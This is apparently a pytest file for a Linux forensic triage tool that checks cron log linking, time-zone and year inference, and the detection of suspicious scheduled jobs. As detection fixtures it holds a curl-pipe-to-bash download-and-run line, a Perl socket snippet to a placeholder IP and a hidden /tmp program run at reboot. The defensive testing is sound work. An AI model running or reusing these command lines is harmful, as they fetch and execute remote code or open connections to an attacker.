"""What real Linux hosts do that the project's image did not (issue 21): cron logs keep a crontab
line's trailing blanks, the zone is only in /etc/localtime or /etc/sysconfig/clock, rotated logs lost
their original file times, web applications ship cron lines for the web user, a collection has a
README at its top, a timer is enabled but its unit file is gone. Each case is a real tree on disk
(or the project's Linux image) opened through dissect.target by the real collectors."""

from __future__ import annotations

import gzip
import os
import shutil
import subprocess
import sys
from datetime import datetime, timezone
from pathlib import Path

import pytest
from dissect.target import Target

from test_images import linux_scenario as scenario
from test_images.build_linux import _write_tree
from triage.collect import Context, Source
from triage.collect.unix_jobs import collect
from triage.detect import RISK_ORDER
from triage.parsers.crontab import fires_within, programs_run
from triage.records import EvidenceRef, HostInfo, TaskEvent, UnixJob
from triage.run import run

ROOT = Path(__file__).resolve().parents[2]
ZONEINFO = Path("/usr/share/zoneinfo")


def _epoch(text: str) -> int:
    return int(datetime.strptime(text, "%Y-%m-%d %H:%M:%S").replace(tzinfo=timezone.utc).timestamp())


def _tree(root: Path, files: dict[str, bytes | str], mtimes: dict[str, str] | None = None) -> Path:
    for name, data in files.items():
        path = root / name.lstrip("/")
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data.encode() if isinstance(data, str) else data)
    for name, when in (mtimes or {}).items():
        os.utime(root / name.lstrip("/"), (_epoch(when), _epoch(when)))
    return root


def _collect(root: Path) -> tuple[list[UnixJob], list[TaskEvent], Context, Source]:
    target = Target.open(root)
    source = Source(ref=EvidenceRef(path=str(root), kind="dir"), target=target, host=HostInfo(hostname="srv"), os_family="linux")
    ctx = Context(quiet=True)
    records = list(collect(source, ctx))
    return [r for r in records if isinstance(r, UnixJob)], [r for r in records if isinstance(r, TaskEvent)], ctx, source


# --- 1. run linking -------------------------------------------------------------------------

def _centos_cron_log(runs: int) -> str:
    """cronie's /var/log/cron: the */5 entry's command logged with the line's three trailing blanks,
    every five minutes from 00:00, and the */10 report at its own minutes."""
    lines = []
    for i in range(runs):
        minute = i * 5
        stamp = f"Dec 11 {minute // 60:02d}:{minute % 60:02d}:01"
        lines.append(f"{stamp} centos6 CROND[{3000 + i}]: (root) CMD (/usr/local/bin/check_disk.sh   )")
        if minute % 10 == 0:
            lines.append(f"{stamp} centos6 CROND[{5000 + i}]: (root) CMD (/usr/local/bin/report.sh)")
    return "\n".join(lines) + "\n"


def test_crontab_line_ending_in_blanks_links_all_its_runs_and_sysconfig_zone_converts(tmp_path):
    runs = 120
    root = _tree(tmp_path / "centos", {
        "/etc/sysconfig/clock": 'ZONE="Asia/Shanghai"\nUTC=true\nARC=false\n',
        "/etc/crontab": "SHELL=/bin/bash\n",
        "/var/spool/cron/root": "*/5 * * * * /usr/local/bin/check_disk.sh   \n*/10 * * * * /usr/local/bin/report.sh\n",
        "/var/log/cron": _centos_cron_log(runs),
    }, {"/var/log/cron": "2016-12-11 10:00:00"})
    jobs, events, ctx, source = _collect(root)
    by_entry = {j.entry: j for j in jobs}
    assert by_entry["/var/spool/cron/root:1"].details["logged_runs"]["count"] == runs
    assert by_entry["/var/spool/cron/root:2"].details["logged_runs"]["count"] == runs // 2
    assert all(e.task and not e.task.startswith("cron log:") for e in events)
    assert (source.host.timezone, source.host.timezone_source) == ("Asia/Shanghai", "/etc/sysconfig/clock")
    first = min(events, key=lambda e: e.time.utc)
    # 00:00:01 in Shanghai (UTC+8) is 16:00:01 UTC the day before; the year comes from the file's time
    assert (first.time.as_written, first.time.utc, first.time.basis) == ("Dec 11 00:00:01", "2016-12-10T16:00:01Z", "local, year inferred")


def test_run_at_a_minute_the_schedule_does_not_fire_is_not_the_entrys():
    assert fires_within("*/30 * * * *", datetime(2024, 3, 13, 8, 30, 1))
    assert fires_within("*/30 * * * *", datetime(2024, 3, 13, 8, 31, 0))  # logged a minute late
    assert not fires_within("*/30 * * * *", datetime(2024, 3, 13, 8, 44, 1))
    assert not fires_within("0 3 * * 1", datetime(2024, 3, 13, 3, 0, 1))  # a Wednesday
    assert fires_within("0 3 * * 1", datetime(2000, 3, 13, 3, 0, 1), weekday_known=False)
    assert not fires_within("0 3 1 * *", datetime(2000, 3, 13, 3, 0, 1), weekday_known=False)
    assert fires_within("0 3 1 * 1", datetime(2000, 3, 13, 3, 0, 1), weekday_known=False)  # dom or dow: dow unknown


def test_two_entries_that_fit_the_same_run_make_an_ambiguous_link(tmp_path):
    root = _tree(tmp_path / "host", {
        "/etc/timezone": "UTC\n",
        "/etc/crontab": "0 * * * * root /usr/local/bin/rotate.sh\n",
        "/etc/cron.d/rotate": "0 */2 * * * root /usr/local/bin/rotate.sh\n",
        "/var/spool/cron/crontabs/.keep": "",
        "/var/log/syslog": "Mar  4 02:00:01 host CRON[10]: (root) CMD (/usr/local/bin/rotate.sh)\n"
                           "Mar  4 03:00:01 host CRON[11]: (root) CMD (/usr/local/bin/rotate.sh)\n",
    }, {"/var/log/syslog": "2024-03-04 03:05:00"})
    jobs, events, ctx, source = _collect(root)
    two, three = sorted(events, key=lambda e: e.time.utc)
    assert two.fields["link"].startswith("ambiguous: 2 entries fit")
    assert (two.task, two.fields["other_matching_entries"]) == ("/etc/cron.d/rotate:1", ["/etc/crontab:1"])
    assert (three.task, three.fields["link"]) == ("/etc/crontab:1", "same user and command; the schedule fires at this time")


def test_runs_no_entry_holds_are_a_finding_only_where_the_crontabs_were_read(tmp_path):
    log = "Mar  4 02:00:01 host CRON[10]: (root) CMD (/usr/local/bin/upd -q)\n"
    full = _tree(tmp_path / "full", {"/etc/timezone": "UTC\n", "/etc/crontab": "SHELL=/bin/sh\n",
                                     "/var/spool/cron/crontabs/.keep": "", "/var/log/syslog": log},
                 {"/var/log/syslog": "2024-03-04 03:05:00"})
    logs_only = _tree(tmp_path / "logs", {"/etc/timezone": "UTC\n", "/var/log/syslog": log},
                      {"/var/log/syslog": "2024-03-04 03:05:00"})
    task = "cron log: (root) CMD (/usr/local/bin/upd -q)"
    case = run([str(full)], Context(quiet=True), hunt_date="20260101")
    finding = next(f for f in case.findings if f.task == task)
    # a lead, not an accusation: crontab lines are removed as routine; what ran decides the risk
    assert (finding.risk_level, finding.rule) == ("Low", "runs_without_definition")
    assert next(e for e in case.entities if e.key == task).status == "ran, no longer defined"
    case = run([str(logs_only)], Context(quiet=True), hunt_date="20260101")
    assert not [f for f in case.findings if f.task == task]
    status = next(e for e in case.entities if e.key == task).status
    assert status.startswith("ran; definition not examined (/etc/crontab and /etc/cron.d not in the evidence")


# --- 2. zone and year -----------------------------------------------------------------------

def test_tree_whose_only_zone_is_a_tzif_localtime_gets_utc_times(tmp_path):
    root = _tree(tmp_path / "pi", {
        "/etc/localtime": (ZONEINFO / "Europe/Berlin").read_bytes(),  # a copied TZif file, not a link
        "/etc/crontab": "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n",
        "/var/spool/cron/crontabs/.keep": "",
        "/var/log/syslog": "Jul  1 10:17:01 pi CRON[99]: (root) CMD (cd / && run-parts --report /etc/cron.hourly)\n",
    }, {"/var/log/syslog": "2023-07-01 08:20:00"})
    case = run([str(root)], Context(quiet=True), hunt_date="20260101")
    event = next(e for e in case.events if e.action == "cron_run")
    assert (event.time.utc, event.time.timezone, event.task) == ("2023-07-01T08:17:01Z", "Europe/Berlin", "/etc/crontab:1")
    assert (case.hosts[0].timezone, case.hosts[0].timezone_source) == (
        "Europe/Berlin", "/etc/localtime (TZif matched to the zoneinfo database)")
    assert not [row for row in case.timeline if row.utc is None]


@pytest.mark.skipif(shutil.which("zic") is None, reason="zic (tzdata compiler) not installed")
def test_unnamed_tzif_localtime_converts_with_its_own_transitions(tmp_path):
    source = tmp_path / "odd.zi"
    source.write_text("Zone Odd/Zone 5:17 - ODD\n")
    out = tmp_path / "zoneinfo"
    subprocess.run(["zic", "-d", str(out), str(source)], check=True)
    root = _tree(tmp_path / "odd", {
        "/etc/localtime": (out / "Odd/Zone").read_bytes(),
        "/etc/crontab": "0 5 * * * root /usr/local/bin/nightly\n",
        "/var/spool/cron/crontabs/.keep": "",
        "/var/log/syslog": "May  2 05:00:01 odd CRON[5]: (root) CMD (/usr/local/bin/nightly)\n",
    }, {"/var/log/syslog": "2024-05-02 00:00:00"})
    jobs, events, ctx, source = _collect(root)
    assert events[0].time.utc == "2024-05-01T23:43:01Z"  # 05:00:01 at UTC+05:17
    assert source.host.timezone_source.startswith("/etc/localtime (TZif transitions")


def test_rotated_syslog_with_copied_file_times_gets_a_year_inferred_from_the_chain(tmp_path):
    """syslog.2.gz was touched months later (a copy): its own time would put June in 2024, after the
    newer files; the chain (syslog.1 starts in December 2023) puts it in June 2023, marked inferred."""
    root = _tree(tmp_path / "vps", {
        "/etc/timezone": "UTC\n",
        "/etc/crontab": "SHELL=/bin/sh\n",
        "/var/log/syslog": "Jan  5 10:00:01 vps CRON[3]: (root) CMD (/usr/bin/backup)\n",
        "/var/log/syslog.1": "Dec 28 10:00:01 vps CRON[2]: (root) CMD (/usr/bin/backup)\n",
        "/var/log/syslog.2.gz": gzip.compress(b"Jun  3 10:00:01 vps CRON[1]: (root) CMD (/usr/bin/backup)\n", mtime=0),
    }, {"/var/log/syslog": "2024-01-05 10:05:00", "/var/log/syslog.1": "2023-12-31 06:25:00",
        "/var/log/syslog.2.gz": "2024-08-01 12:00:00"})
    jobs, events, ctx, source = _collect(root)
    by_file = {e.provenance.location: e for e in events}
    june = by_file["/var/log/syslog.2.gz"]
    assert (june.time.utc, june.time.basis) == ("2023-06-03T10:00:01Z", "local, year inferred")
    assert june.fields["year_basis"].startswith("year carried back from the first line of the newer rotated file /var/log/syslog.1 (2023-12-28)")
    december = by_file["/var/log/syslog.1"]
    assert december.time.utc == "2023-12-28T10:00:01Z"
    assert december.fields["year_basis"].startswith("year from the file's modification time 2023-12-31T06:25:00Z")


# --- 3. stock and web-application jobs ------------------------------------------------------

def test_web_application_crons_and_lock_file_arguments_raise_nothing_at_medium_or_above(tmp_path):
    root = tmp_path / "scenario"
    _write_tree(root, scenario.nodes())
    case = run([str(root)], Context(quiet=True), hunt_date="20260101")
    medium_up = {f.task: f for f in case.findings if RISK_ORDER[f.risk_level] >= RISK_ORDER["Medium"]}
    web_lines = [f"/var/spool/cron/crontabs/www-data:{n}" for n in (6, 7, 9, 10, 11)]
    commands = {j.entry: j.command for j in case.unix_jobs}
    assert [commands[e] for e in web_lines] == [scenario.MAGENTO_CRON, scenario.MAGENTO_SETUP_CRON, scenario.WORDPRESS_CRON,
                                                scenario.NEXTCLOUD_CRON, scenario.LARAVEL_CRON]
    assert not [e for e in web_lines if e in medium_up]
    assert not [f for f in case.findings if f.task in web_lines]
    # the web user's own download-and-run line still speaks, with the account as one reason
    assert {r["rule"] for r in medium_up["/var/spool/cron/crontabs/www-data:4"].details["reasons"]} >= {"unix_download_exec", "unix_service_account_job"}
    # flock's lock file in /tmp is an argument: /home/alice/bin/sync2.sh is what runs
    assert "/var/spool/cron/alice:4" not in {f.task for f in case.findings}
    # ... while a hidden program in /tmp is High
    assert medium_up["/etc/anacrontab:13"].risk_level == "High"
    assert medium_up["/etc/systemd/system/timers.target.wants/sysupdate-cache.timer"].rule == "timer_enabled_unit_missing"


def test_hidden_program_in_tmp_at_reboot_as_root_is_high_and_stock_certbot_is_quiet(tmp_path):
    stock = "0 */12 * * * root test -x /usr/bin/certbot -a \\! -d /run/systemd/system && perl -e 'sleep int(rand(43200))' && certbot -q renew\n"
    changed = "0 */12 * * * root perl -e 'use Socket;$i=\"203.0.113.9\";socket(S,PF_INET,SOCK_STREAM,6)' && certbot -q renew\n"
    root = _tree(tmp_path / "certbot", {
        "/etc/timezone": "UTC\n",
        "/etc/cron.d/certbot": stock,
        "/etc/cron.d/certbot-renew": stock,  # the stock line in a file no package ships: judged on its content
        "/etc/cron.d/sysstat": "5-55/10 * * * * root command -v debian-sa1 > /dev/null && debian-sa1 1 1\n" + changed.replace("certbot", "sa"),
        "/var/spool/cron/crontabs/root": "@reboot /tmp/.x/kworker -s\n",
    })
    case = run([str(root)], Context(quiet=True), hunt_date="20260101")
    by_task = {f.task: f for f in case.findings}
    assert "/etc/cron.d/certbot:1" not in by_task
    assert "/etc/cron.d/sysstat:1" not in by_task
    assert "/etc/cron.d/certbot-renew:1" in by_task  # stock is known by place and text together, never by text alone
    changed_stock = by_task["/etc/cron.d/sysstat:2"]
    assert "stock_unix_job_changed" in changed_stock.rule and RISK_ORDER[changed_stock.risk_level] >= RISK_ORDER["Medium"]
    reboot = by_task["/var/spool/cron/crontabs/root:1"]
    assert reboot.risk_level == "High" and reboot.rule.split(",")[0] == "unix_hidden_temp_program"


ALPINE_ROOT_CRONTAB = """\
# do daily/weekly/monthly maintenance
# min\thour\tday\tmonth\tweekday\tcommand
*/15\t*\t*\t*\t*\trun-parts /etc/periodic/15min
0\t*\t*\t*\t*\trun-parts /etc/periodic/hourly
0\t2\t*\t*\t*\trun-parts /etc/periodic/daily
0\t3\t*\t*\t6\trun-parts /etc/periodic/weekly
0\t5\t1\t*\t*\trun-parts /etc/periodic/monthly
*/10\t*\t*\t*\t*\t/root/session.sh
"""


def test_alpine_busybox_crontab_and_log_are_read_once_and_stock_lines_stay_quiet(tmp_path):
    root = _tree(tmp_path / "alpine", {
        "/etc/alpine-release": "3.19.1\n",
        "/etc/crontabs/root": ALPINE_ROOT_CRONTAB,
        "/var/log/messages": "Mar  4 02:15:00 alpine cron.info crond[2341]: USER root pid 2400 cmd run-parts /etc/periodic/15min\n"
                             "Mar  4 02:20:00 alpine cron.info crond[2341]: USER root pid 2410 cmd /root/session.sh\n",
    }, {"/var/log/messages": "2024-03-04 02:21:00"})
    (root / "var/spool/cron").mkdir(parents=True)
    (root / "var/spool/cron/crontabs").symlink_to("/etc/crontabs")
    case = run([str(root)], Context(quiet=True), hunt_date="20260101")
    assert sorted(j.entry for j in case.unix_jobs) == [f"/etc/crontabs/root:{n}" for n in range(3, 9)]
    assert [(e.task, e.time.as_written) for e in sorted(case.events, key=lambda e: e.provenance.offset)] == [
        ("/etc/crontabs/root:3", "Mar  4 02:15:00"), ("/etc/crontabs/root:8", "Mar  4 02:20:00")]
    assert not [f for f in case.findings if f.task in {f"/etc/crontabs/root:{n}" for n in range(3, 8)}]


@pytest.mark.parametrize(("command", "programs"), [
    ("flock -e /tmp/x.lock /opt/app/x.sh", ["/opt/app/x.sh"]),
    ("/tmp/.x/kworker -s", ["/tmp/.x/kworker"]),
    ("echo ok > /tmp/out.txt 2>&1", []),
    ("/bin/sh /var/tmp/.cache/refresh.sh", ["/bin/sh", "/var/tmp/.cache/refresh.sh"]),
    ("/bin/bash -c 'curl -fsSL http://203.0.113.50/s.sh | bash'", ["/bin/bash", "curl", "bash"]),
    ("cd /var/www/portal && php artisan schedule:run >> /dev/null 2>&1", ["php", "artisan"]),
    ("nice -n 10 ionice -c3 /usr/bin/updatedb", ["/usr/bin/updatedb"]),
    ("timeout 300 sudo -u backup /srv/bin/dump", ["/srv/bin/dump"]),
])
def test_programs_run_are_the_programs_not_their_arguments(command, programs):
    assert programs_run(command) == programs


# --- 4. a tree's top ------------------------------------------------------------------------

def test_readme_and_dangling_link_at_the_top_of_a_tree_are_no_gap(tmp_path):
    root = _tree(tmp_path / "collection", {
        "/README": "Triage collection of web01, made with tar.\n",
        "/etc/timezone": "UTC\n",
        "/etc/crontab": "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n",
        "/var/spool/cron/crontabs/.keep": "",
        "/var/log/syslog": "Mar  4 02:17:01 web01 CRON[10]: (root) CMD (cd / && run-parts --report /etc/cron.hourly)\n",
    }, {"/var/log/syslog": "2024-03-04 03:05:00"})
    (root / "vmlinuz").symlink_to("boot/vmlinuz-6.1.0-18-amd64")  # dangling, as after a kernel removal
    out = tmp_path / "case"
    done = subprocess.run([sys.executable, "-m", "triage", "-q", "-o", str(out), str(root)], cwd=ROOT,
                          capture_output=True, text=True, timeout=600)
    assert done.returncode == 0, done.stderr
    assert "cannot list" not in done.stderr


# --- public samples -------------------------------------------------------------------------

def test_public_cron_logs_link_to_crontabs_and_unheld_commands_are_named(tmp_path, corpus):
    """python-crontab's test.log (real Debian cron log format, runs every minute) with crontabs that
    hold two of its three commands, and the DFIRArtifactMuseum GeminiIntrusion syslog (synthetic, per
    PROVENANCE.md) whose /tmp/.cache_proc runs no crontab holds."""
    test_log = (corpus / "AiratNig__python-crontab/tests/data/test.log").read_bytes()
    gemini = (corpus / "AndrewRathbun__DFIRArtifactMuseum/Linux/GeminiIntrusion/var/log/syslog").read_bytes()
    root = _tree(tmp_path / "server", {
        "/etc/timezone": "UTC\n",
        "/etc/crontab": "*/5 * * * * root /usr/local/bin/fix_logs.sh\n",
        "/var/spool/cron/crontabs/user": "* * * * * userscript &> /dev/null\n",
        "/var/spool/cron/crontabs/root": "* * * * * rootscript &> /dev/null\n",
        "/var/log/cron.log": test_log,
        "/var/log/syslog": gemini,
    }, {"/var/log/cron.log": "2015-04-04 21:40:00", "/var/log/syslog": "2025-05-11 09:45:00"})
    case = run([str(root)], Context(quiet=True), hunt_date="20260101")
    runs = {}
    for event in case.events:
        if event.action == "cron_run":
            runs.setdefault(event.task, []).append(event.time.utc)
    assert {task: len(times) for task, times in runs.items()} == {
        "/var/spool/cron/crontabs/user:1": 11, "/var/spool/cron/crontabs/root:1": 6,
        "cron log: (root) CMD (shadowscript &> /dev/null)": 2,
        "/etc/crontab:1": 1, "cron log: (root) CMD (/tmp/.cache_proc)": 2}
    gone = next(f for f in case.findings if f.task == "cron log: (root) CMD (/tmp/.cache_proc)")
    assert (gone.risk_level, gone.rule) == ("High", "unix_hidden_temp_program,unix_temp_path,runs_without_definition")
    # each content rule cites the first run of the command, the absence every run; a record cited by
    # several reasons is one evidence item (the same log line is not listed three times)
    assert [(item.time, item.value) for item in gone.evidence] == [
        ("2025-05-11T09:30:01Z", "May 11 09:30:01 srv-prod CRON[2102]: (root) CMD (/tmp/.cache_proc)"),
        ("2025-05-11T09:35:01Z", "May 11 09:35:01 srv-prod CRON[2240]: (root) CMD (/tmp/.cache_proc)")]
    # the test log's commands no crontab holds are leads, nothing more
    assert {f.risk_level for f in case.findings if "script &> /dev/null" in f.task} == {"Low"}
    # the same syslog alone: no crontab read, no absence claimed, but what ran is still judged
    alone = _tree(tmp_path / "logs", {"/etc/timezone": "UTC\n", "/var/log/syslog": gemini}, {"/var/log/syslog": "2025-05-11 09:45:00"})
    case = run([str(alone)], Context(quiet=True), hunt_date="20260101")
    gone = next(f for f in case.findings if f.task == "cron log: (root) CMD (/tmp/.cache_proc)")
    assert (gone.risk_level, gone.rule) == ("High", "unix_hidden_temp_program,unix_temp_path")


def test_stock_timer_stays_quiet_and_a_changed_one_speaks(tmp_path, corpus):
    logrotate = corpus / "logrotate__logrotate/examples"
    apt_timer = "[Unit]\nDescription=Daily apt download activities\n\n[Timer]\nOnCalendar=*-*-* 6,18:00\nRandomizedDelaySec=12h\nPersistent=true\n\n[Install]\nWantedBy=timers.target\n"
    root = _tree(tmp_path / "ubuntu", {
        "/etc/timezone": "UTC\n",
        "/etc/crontab": "SHELL=/bin/sh\n",
        "/var/spool/cron/crontabs/.keep": "",
        "/lib/systemd/system/logrotate.timer": (logrotate / "logrotate.timer").read_bytes(),
        "/lib/systemd/system/logrotate.service": (logrotate / "logrotate.service").read_bytes(),
        "/lib/systemd/system/apt-daily.timer": apt_timer,
        "/lib/systemd/system/apt-daily.service": "[Service]\nType=oneshot\nExecStart=/usr/local/sbin/apt-refresh --all\n",
    })
    case = run([str(root)], Context(quiet=True), hunt_date="20260101")
    by_task = {f.task: f for f in case.findings}
    assert "/lib/systemd/system/logrotate.timer" not in by_task
    changed = by_task["/lib/systemd/system/apt-daily.timer"]
    assert (changed.risk_level, changed.rule) == ("Medium", "stock_unix_job_changed")
    assert changed.evidence[1].value.endswith("/usr/lib/apt/apt.systemd.daily update")
